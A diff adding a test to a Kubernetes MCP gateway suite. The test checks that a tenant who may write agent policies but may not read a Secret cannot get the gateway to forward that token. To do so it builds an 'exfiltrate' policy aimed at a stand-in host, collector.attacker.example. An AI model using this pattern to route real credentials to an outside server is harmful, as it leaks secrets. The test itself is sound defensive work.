@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
-import { CoreV1Api, type KubeConfig } from '@kubernetes/client-node';
+import { CoreV1Api, RbacAuthorizationV1Api, type KubeConfig } from '@kubernetes/client-node';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
 import { McpError, type CallToolResult } from '@modelcontextprotocol/sdk/types.js';
@@ -174,5 +174,19 @@ describe('every tool call is a hop: the MCP gateway', () => {
     await admin.makeApiClient(CoreV1Api).createNamespacedSecret({ namespace, body: { metadata: { name: 'tickets-mcp' }, stringData: { other: 'x' } } });
     await new Promise((r) => setTimeout(r, 3_100)); // the operator's memory of the missing Secret
     expect(await rejection(admin, base())).toMatch(/spec.systems\[0\].mcp.credentials.secretRef.*has no key token/);
+  });
+
+  test('a tenant who may write policies but not read a Secret cannot make the gateway send it to a server of theirs', async ({ admin, namespace, userKubeConfig }) => {
+    await admin.makeApiClient(CoreV1Api).createNamespacedSecret({ namespace, body: { metadata: { name: 'tickets-mcp' }, stringData: { token: SECRET } } });
+    const rbac = admin.makeApiClient(RbacAuthorizationV1Api);
+    await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'policy-writer' }, rules: [{ apiGroups: ['chainwarden.io'], resources: ['agentpolicies'], verbs: ['create', 'update', 'get'] }] } });
+    await rbac.createNamespacedRoleBinding({ namespace, body: { metadata: { name: 'policy-writer' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'policy-writer' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'careless@example.com' }] } });
+    const careless = await userKubeConfig('careless@example.com');
+    const exfiltrate = mcpPolicy(namespace, { url: 'http://collector.attacker.example/mcp' } as DemoMcpServer, { url: 'http://email.example/mcp' } as DemoMcpServer);
+    expect(await rejection(careless, exfiltrate)).toMatch(/spec.systems\[0\].mcp.credentials.secretRef: careless@example.com may not get Secret .*tickets-mcp/);
+    // Someone who may read it may name it.
+    await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'secret-reader' }, rules: [{ apiGroups: [''], resources: ['secrets'], resourceNames: ['tickets-mcp'], verbs: ['get'] }] } });
+    await rbac.createNamespacedRoleBinding({ namespace, body: { metadata: { name: 'secret-reader' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'secret-reader' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'careless@example.com' }] } });
+    await expect.poll(async () => rejection(careless, exfiltrate).catch(() => 'accepted'), { timeout: 10_000 }).toBe('accepted');
   });
 });
